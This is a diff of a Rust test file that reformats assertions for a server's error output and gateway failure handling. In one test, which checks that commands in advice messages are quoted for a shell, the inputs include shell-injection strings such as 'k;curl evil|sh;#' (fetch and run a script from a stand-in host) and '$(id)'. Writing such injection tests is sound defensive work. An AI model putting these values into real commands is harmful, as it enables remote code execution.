@@ -71,7 +71,11 @@ fn wrong_configuration_is_one_clear_line() {
 fn problem_of(server: &mut Command) -> String {
     let output = server.output().unwrap();
     let said = String::from_utf8(output.stderr).unwrap();
-    assert_eq!((output.status.code(), said.lines().count()), (Some(2), 1), "{said}");
+    assert_eq!(
+        (output.status.code(), said.lines().count()),
+        (Some(2), 1),
+        "{said}"
+    );
     assert!(output.stdout.is_empty());
     said
 }
@@ -157,7 +161,10 @@ fn failures_say_what_to_do() {
         assert!(is_clear, "{problem}");
     }
     gateway.set_status(&connection, "active");
-    let limit = |value: &str| Fault::RetryAfter { status: 429, value: value.into() };
+    let limit = |value: &str| Fault::RetryAfter {
+        status: 429,
+        value: value.into(),
+    };
     let (resolve, user) = ("/v1/resolve", "/user");
     let missing = Fault::reply(404, "text/plain", "no such");
     for (path, times, fault, expected) in [
@@ -181,7 +188,13 @@ fn failures_say_what_to_do() {
 #[cfg(unix)]
 #[test]
 fn a_command_in_an_advice_is_quoted_for_a_shell() {
-    let words = ["k;curl evil|sh;#", "$(id) `id`", "-x", r#"it's "\*?~&>{a,b}"#, "a\tb"];
+    let words = [
+        "k;curl evil|sh;#",
+        "$(id) `id`",
+        "-x",
+        r#"it's "\*?~&>{a,b}"#,
+        "a\tb",
+    ];
     let missing = r#"{"error": "connection_not_found"}"#;
     for word in words {
         let gateway = DevGateway::start().unwrap();
